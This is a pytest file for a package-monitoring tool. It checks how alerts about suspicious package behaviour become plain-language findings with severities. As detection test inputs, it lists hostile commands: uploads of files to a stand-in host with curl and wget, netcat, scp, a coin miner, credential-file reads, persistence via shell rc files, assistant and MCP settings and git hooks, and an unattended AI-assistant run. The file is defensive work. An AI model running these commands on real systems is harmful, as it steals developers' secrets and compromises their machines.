"""Sentences say what happened: each act of a kind has its own, in data/forms.yaml."""

from __future__ import annotations

import re
from typing import Any

import pytest

from package_hunter.findings.catalog import Class, kinds, load
from package_hunter.findings.forms import form_of, forms
from package_hunter.findings.signals import Signal
from package_hunter.model.finding import Finding, in_words
from package_hunter.model.observation import (
    Alert,
    Canary,
    CanaryRead,
    FileChange,
    NetworkLog,
    Observation,
    Request,
)
from tests.support import judge_samples as samples
from tests.support.judge_samples import SECOND, T0, alert, judge

AWS = "/home/dev/.aws/credentials"
NPMRC = "/home/dev/.npmrc"
CANARIES = tuple(Canary(path, "secret", path, f"value of {path}") for path in (AWS, NPMRC))
NODE = samples.PROCESSES[1]


def seen(kind: str, path: str = "", command: str = "node s.js", *tags: str, **more: Any) -> Alert:
    fields = {"proc.cmdline": command, "proc.name": command.split()[0], "proc.exepath": "/usr/bin/node"}
    if path:
        fields["fd.name"] = path
    event = more.pop("event_type", "openat" if path else "execve")
    return alert(
        output_fields=fields | more, event_type=event, pid=NODE.pid, blame=samples.BLAME,
        tags=(f"kind:{kind}", *(tags or ("suspicious",))),
    )  # fmt: skip


def found(*alerts: Alert, reads: tuple[CanaryRead, ...] = (), requests: tuple[Request, ...] = ()) -> Finding:
    observation = Observation(alerts=alerts, processes=samples.PROCESSES, canary_reads=reads)
    return judge(observation, NetworkLog(requests=requests), CANARIES)[0]


@pytest.mark.parametrize(
    ("what", "title", "form"),
    [
        (
            seen("credential_access", "/proc/1/mem"),
            "It opened the memory or the environment of another",
            "others_memory",
        ),
        (
            seen("credential_access", "/etc/shadow"),
            "It tried to open the system's password files",
            "passwords",
        ),
        (
            seen("credential_access", "/home/dev/Documents"),
            "It looked into the user's documents",
            "documents",
        ),
        (
            seen("credential_access", "/home/dev/Desktop/vpn.txt"),
            "It looked into the user's documents",
            "documents",
        ),
        (
            seen("credential_access", "/home/dev/.ssh"),
            "It looked into folders in which secrets lie",
            "listed",
        ),
        (seen("credential_access", "/home/dev/.bash_history"), "It read the history of commands", "history"),
        (seen("credential_access", NPMRC), "It read the package manager's settings", "settings"),
        (seen("credential_access", AWS), "It read credential files", ""),
        (
            seen("credential_access", "", "xclip -o", "T1115"),
            "It started a program that searches for secrets",
            "collector",
        ),
        (
            seen("persistence", "/home/dev/.zshrc"),
            "It wrote to a file that shells run when they start",
            "shell_start",
        ),
        (
            seen("persistence", "/home/dev/.config/fish/completions/x.fish"),
            "It wrote to a file that shells run",
            "shell_start",
        ),
        (
            seen("persistence", "/home/dev/.cursor/mcp.json"),
            "It entered something into the list of an assistant's servers",
            "assistant_server",
        ),
        (
            seen("persistence", "/home/dev/projects/a/.mcp.json"),
            "It entered something into the list of an assistant's",
            "assistant_server",
        ),
        (
            seen("persistence", "/home/dev/.claude/settings.json"),
            "It changed the settings of a coding assistant",
            "assistant",
        ),
        (
            seen("persistence", "/home/dev/.claude/skills/x/SKILL.md"),
            "It added instructions for a coding assistant",
            "skill",
        ),
        (
            seen("persistence", "/home/dev/projects/a/AGENTS.md"),
            "It added instructions for a coding assistant",
            "skill",
        ),
        (
            seen("persistence", "/home/dev/projects/a/.vscode/extensions.json"),
            "It recommended extensions to an editor",
            "extensions",
        ),
        (
            seen("persistence", "/home/dev/projects/a/.vscode/tasks.json"),
            "It changed the settings of an editor",
            "editor",
        ),
        (
            seen("persistence", "/home/dev/projects/a/.github/workflows/x.yml"),
            "It wrote a pipeline into the project",
            "pipeline",
        ),
        (
            seen("persistence", "/home/dev/.npmrc"),
            "It changed the package manager's settings",
            "manager_settings",
        ),
        (
            seen("persistence", "", "crontab -l"),
            "It asked a scheduler or service manager (crontab -l)",
            "scheduler_asked",
        ),
        (
            seen("persistence", "", "crontab -"),
            "It had something started later or always (crontab -)",
            "scheduler",
        ),
        (
            seen("persistence", "/home/dev/.config/systemd/user/x.service"),
            "It arranged to be started again",
            "",
        ),
        (seen("git_hook", "/home/dev/projects/a/.git/hooks/pre-commit"), "It installed a git hook", ""),
        (
            seen("git_hook", "/home/dev/projects/a/.git/config"),
            "It changed a repository's git settings",
            "settings",
        ),
        (seen("git_hook", "", "git config core.hooksPath .x"), "It told git to run something", "told"),
        (seen("download", "", "curl -sO https://a.example/x"), "A script used a download tool", ""),
        (seen("download", "", "wget -q -T 10 https://a.example/x"), "A script used a download tool", ""),
        (
            seen("download", "", "curl -s --data-binary @f https://a.example/x"),
            "It had a tool send something",
            "uploads",
        ),
        (seen("download", "", "curl -sT f https://a.example/x"), "It had a tool send something", "uploads"),
        (
            seen("download", "", "/usr/bin/curl -F a=@f https://a.example/x"),
            "It had a tool send something",
            "uploads",
        ),
        (
            seen("download", "", "wget --post-file=f https://a.example/x"),
            "It had a tool send something",
            "uploads",
        ),
        (seen("download", "", "nc a.example 80"), "It started a program that opens connections", "connects"),
        (seen("download", "", "scp f a.example:"), "It started a program that copies files", "transfers"),
        (
            seen("download", "", "sh", "T1059.004"),
            "It had a shell carry out what came through a pipe",
            "piped",
        ),
        (
            seen("mining", "", "xmrig -o p.example", "proof"),
            "It started a coin miner (xmrig -o p.example)",
            "command",
        ),
        (
            seen("registry_account", "", "npm whoami"),
            "It started a command that publishes packages or works",
            "command",
        ),
        (
            seen("repository_change", "", "git push"),
            "It started a command that changes repositories",
            "command",
        ),
        (
            seen("assistant_abuse", "", "claude --dangerously-skip-permissions -p x"),
            "It drove an AI assistant with its questions",
            "unasked",
        ),
        (seen("assistant_abuse", "", "claude mcp list"), "It drove an AI assistant's command line", ""),
        (seen("evasion", "", "base64 -d", "T1140"), "It decoded something with a system tool", "decoded"),
        (
            seen("fileless_execution", "", "node x", "info", event_type="memfd_create"),
            "It made a file in memory",
            "made",
        ),
    ],
)
def test_each_act_has_its_own_true_sentence(what: Alert, title: str, form: str) -> None:
    finding = found(what)
    assert finding.title.startswith(title)
    assert finding.form == form
    assert not re.search(r"{\w+}", finding.title)


def test_several_acts_are_told_in_one_sentence_and_what_goes_without_saying_is_not() -> None:
    listed, history = (seen("credential_access", f"/home/dev/{p}") for p in (".ssh", ".bash_history"))
    finding = found(listed, history)
    assert finding.title == (
        "It looked into folders in which secrets lie (/home/dev/.ssh); "
        "it read the history of commands (/home/dev/.bash_history)"
    )
    assert found(listed, seen("credential_access", AWS)).title == f"It read credential files ({AWS})"


@pytest.mark.parametrize(
    ("kind", "command", "severity"),
    [
        ("persistence", "crontab -l", "info"),
        ("persistence", "/usr/bin/crontab -l", "info"),
        ("persistence", "systemctl /usr/bin/systemctl --user status x", "info"),
        ("persistence", "systemctl /usr/bin/systemctl --user enable x", "high"),
        ("persistence", "crontab -", "high"),
        ("persistence", "at now", "high"),
        ("assistant_abuse", "claude /usr/bin/claude --version", "info"),
        ("assistant_abuse", "claude /usr/bin/claude --version -p x", "high"),
        ("assistant_abuse", "claude -p x", "high"),
        ("git_hook", "git config core.hooksPath x", "medium"),
    ],
)
def test_a_question_to_a_program_has_nothing_done(kind: str, command: str, severity: str) -> None:
    """Also where the program is a script, and the interpreter's line has its path."""
    finding = found(seen(kind, "", command))
    assert finding.severity == severity
    assert ("only asked" in " ".join(finding.explain)) is (severity == "info")


def test_a_listing_is_less_grave_than_a_read() -> None:
    assert found(seen("credential_access", "/home/dev/.ssh")).severity == "medium"
    assert (
        found(seen("credential_access", "/home/dev/.ssh"), seen("credential_access", AWS)).severity == "high"
    )


def test_a_theft_names_what_was_taken_and_where_it_went() -> None:
    reads = tuple(
        CanaryRead(T0 + i, path, path, NODE.key, samples.BLAME) for i, path in enumerate((AWS, NPMRC))
    )
    body = bytes(range(128, 256))
    sent = Request(
        T0 + SECOND, "POST", "https://c.example/v1", (), body, len(body), 200, 1, blame=samples.BLAME
    )
    theft = found(reads=reads, requests=(sent,))
    assert theft.kind == "staged_theft" and theft.proof
    assert AWS in theft.title and NPMRC in theft.title and theft.title.endswith("to c.example")


def test_a_program_is_said_to_be_written_only_where_that_was_seen() -> None:
    run = seen("dropped_executable", "", "sh /tmp/.x.sh")
    assert found(run).title == "It ran a program from a temporary or hidden place (/tmp/.x.sh)"
    written = FileChange("/tmp/.x.sh", "created", NODE.key, T0)
    observation = Observation(alerts=(run,), processes=samples.PROCESSES, files=(written,))
    assert judge(observation, NetworkLog())[0].title == "It wrote a program to /tmp/.x.sh and ran it"


def test_every_form_is_whole_and_is_asked_for_by_a_kind() -> None:
    for kind, rows in load("forms.yaml").items():
        names = [row["name"] for row in rows]
        assert kind in kinds() and len(set(names)) == len(names), kind
        for form in forms(kinds()[kind]):
            assert form.when and form.raised.endswith(".") and form.lowers.endswith("."), form.name
            assert all(line.endswith(".") for line in form.advice), form.name
            assert set(re.findall(r"{(\w+)}", form.title)) <= {"subject", "command"}, form.name


@pytest.mark.parametrize("kind", kinds())
def test_whatever_a_signal_holds_it_has_a_form(kind: str) -> None:
    for data in ({}, {"rule": "x", "fields": None}, {"rule": "x", "fields": {"proc.cmdline": "\0" * 9999}}):
        signal = Signal(T0, kind, Class.INFO, "\ud800" * 5000, "x", None, data=data)
        assert form_of(signal, kinds()[kind]).title


def test_subjects_are_named_and_counted() -> None:
    assert in_words(["a", "a", "b"]) == "a, b"
    assert in_words([str(n) for n in range(60)]) == "0, 1, 2 and 57 more"
    assert in_words(["", ""]) == ""
